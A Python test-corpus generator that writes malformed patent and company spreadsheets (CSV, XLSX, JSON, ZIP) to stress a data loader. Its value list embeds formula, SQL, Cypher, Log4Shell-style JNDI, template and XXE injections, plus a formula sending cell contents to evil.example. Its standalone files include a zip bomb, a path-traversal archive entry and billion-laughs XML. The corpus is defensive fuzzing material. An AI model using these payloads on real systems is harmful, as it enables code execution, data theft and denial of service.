"""A corpus of hostile files and rows: what colleagues, vendors and enemies put into spreadsheets."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from random import Random

import xlsxwriter

from loaders.fields import check_digit

HEADER = [
    "申请号",
    "名称",
    "申请人",
    "IPC",
    "申请日",
    "公开号",
    "地址",
    "摘要",
    "发明人",
    "代理机构",
]
FIRMS = ["企业名称", "统一社会信用代码", "注册地址", "经营范围"]
VALUES: tuple[str, ...] = (
    *("", " ", "\u00a0", "\u3000", "-", "无", "N/A", "NULL", "None", "nan", "inf", "-1", "1e308"),
    *("0", "#REF!", "#N/A", "#NAME?", "TRUE", "00000000000", "9" * 400, "1." + "9" * 50),
    *('=cmd|"/c calc"!A1', '=HYPERLINK("http://evil.example/?x="&A1)', "+1+1", "@SUM(A1)", "-2+3"),
    *(
        "'}) DETACH DELETE n //",
        "`) MATCH (n) DETACH DELETE n //",
        "$rows",
        "{id: row.id}",
        "\\u0027",
    ),
    *(
        "');DROP TABLE patents;--",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%s%n",
        "../../etc/passwd",
    ),
    *("<script>alert(1)</script>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&x;", "<![CDATA["),
    *("\x00", "a\x00b", "\x07\x1b[31m", "\ud800", "\ufeff", "\u202eabc", "e\u0301" * 50, "🀄" * 20),
    *(
        "2023-02-30",
        "0000-00-00",
        "1899-12-31",
        "9999-12-31",
        "20231301",
        "二〇二三年",
        "45000",
        "31/12/23",
    ),
    *(
        "CN",
        "ZL",
        "CN2021",
        "CN999999999999.9",
        "CN20211000000１.X",
        "202110000001",
        "US0000000A",
        "WO",
    ),
    *("H05K", "H05K3/", "H05K3/46)", "A00B", "Z99Z99/99", "h05k 3/46（2006.01）I", "；；；", "|||"),
    *(
        "示例；示例;示例、",
        "示例\n示例",
        "示例\t示例",
        '"',
        '""',
        "'",
        ",",
        "，",
        "a,b",
        "江西省江西省江西省",
    ),
)
"""What may stand in a cell where it has no business."""
LONGEST = 1_000_000


def application(serial: int) -> str:
    digits = f"20211{serial:07d}"
    return f"CN{digits}.{check_digit(digits)}"


def rows(dice: Random, count: int, first: int) -> Iterator[list[str]]:
    """Rows of patents, most with several cells that are wrong in some way."""
    for serial in range(first, first + count):
        good = [
            *(application(serial), f"一种示例线路板{serial}", "示例电子有限公司", "H05K3/46"),
            *("2021-03-04", f"CN11{serial:07d}A", "江西省赣州市", "层压", "示例某", "示例代理所"),
        ]
        for _ in range(dice.choice((0, 1, 1, 2, 3, 6))):
            good[dice.randrange(len(good))] = dice.choice(VALUES)
        if dice.random() < 0.0005:
            good[dice.randrange(len(good))] = dice.choice("示x=\x00") * LONGEST
        cut = dice.choice((0, 0, 0, 0, 3))  # rows that end early, or run on
        yield good[: len(good) - cut] + (["多", "余"] if dice.random() < 0.05 else [])


def as_csv(table: Sequence[Sequence[str]], encoding: str) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(table)
    return out.getvalue().encode(encoding, "replace")


def as_xlsx(table: Sequence[Sequence[str]], *, merged: bool = False) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": True}) as book:
        sheet = book.add_worksheet()
        for row, cells in enumerate(table):
            for column, cell in enumerate(cells):
                plain = cell.encode("utf-8", "replace").decode()[:32_000]
                sheet.write(row, column, plain)
        if merged:
            sheet.merge_range(1, 1, min(4, len(table) - 1), 2, "合并")
            sheet.merge_range(6, 0, 6, 4, "合并一行")
    return out.getvalue()


def as_json(table: Sequence[Sequence[str]], encoding: str) -> bytes:
    found = [dict(zip(table[0], row, strict=False)) for row in table[1:]]
    return json.dumps(found, ensure_ascii=encoding != "utf-8").encode(encoding, "replace")


def as_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def mixed(table: Sequence[Sequence[str]]) -> bytes:
    """A file whose halves are of two encodings."""
    half = len(table) // 2
    return as_csv(table[:half], "utf-8") + as_csv(table[half:], "gb18030")


SHAPES: tuple[tuple[str, Callable[[list[list[str]]], bytes]], ...] = (
    ("utf8.csv", lambda table: as_csv(table, "utf-8")),
    ("bom.csv", lambda table: as_csv(table, "utf-8-sig")),
    ("gbk.csv", lambda table: as_csv(table, "gb18030")),
    ("utf16.csv", lambda table: as_csv(table, "utf-16")),
    ("mixed.csv", mixed),
    ("plain.xlsx", as_xlsx),
    ("merged.xlsx", lambda table: as_xlsx(table, merged=True)),
    ("two-headers.csv", lambda table: as_csv([table[0], *table], "utf-8")),
    ("title-above.xlsx", lambda table: as_xlsx([["示例导出清单"], [], *table])),
    ("escaped.json", lambda table: as_json(table, "ascii")),
    ("half.xlsx", lambda table: as_xlsx(table)[: 3000 + len(table)]),
    ("half.csv", lambda table: as_csv(table, "utf-8")[:-7]),
    ("twice-named.csv", lambda table: as_csv([[*table[0], *table[0]], *table[1:]], "utf-8")),
    ("inside.zip", lambda table: as_zip({"../../a.csv": as_csv(table, "utf-8"), "b.xlsx": b"PK"})),
    ("misnamed.xls", lambda table: as_csv(table, "gb18030")),
)
LONE: dict[str, bytes] = {
    "empty.csv": b"",
    "nul.csv": b"\x00" * 5000,
    "bomb.zip": as_zip({"a.csv": b"0" * 60_000_000}),
    "nested.zip": as_zip({"a.zip": as_zip({"b.zip": as_zip({"c.csv": b"x"})})}),
    "outside.xml": b'<!DOCTYPE r [<!ENTITY e SYSTEM "http://192.0.2.1/x">]><r><p><a>&e;</a></p></r>',
    "laughs.xml": (
        '<!DOCTYPE r [<!ENTITY l0 "lol">'
        + "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
        + "]><r><p><a>&l9;</a></p><p><a>x</a></p></r>"
    ).encode(),
    "deep.xml": b"<r>" * 20_000,
    "deep.json": b"[" * 100_000,
    "wide.csv": ",".join(f"列{at}" for at in range(20_000)).encode(),
    "list.csv": "申请号\n".encode() + b"\n" * 50_000,
    "page.html": b"<html><script src='http://192.0.2.1/x.js'></script><table><tr><td>x",
    "list.pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>",
    "macro.docx": as_zip({"word/document.xml": b"<w:document>", "vbaProject.bin": b"\x00"}),
}
"""Files that hold no row of any use."""


def write_corpus(folder: Path, count: int, seed: int = 1) -> int:
    """Write files with ``count`` rows of patents in all and what else there is; how many rows."""
    dice = Random(seed)  # noqa: S311 -- repeatable
    folder.mkdir(parents=True)
    each, at = max(8, count // (3 * len(SHAPES))), 0
    while at < count:
        for name, shape in SHAPES:
            table = [HEADER, *rows(dice, each, at + 1)]
            (folder / f"{at:06d}-{name}").write_bytes(shape(table))
            at += each
    for name, data in LONE.items():
        (folder / name).write_bytes(data)
    firms = [[f"示例{dice.choice(VALUES)}有限公司", *dice.choices(VALUES, k=3)] for _ in range(200)]
    (folder / "firms.csv").write_bytes(as_csv([FIRMS, *firms], "utf-8"))
    return at
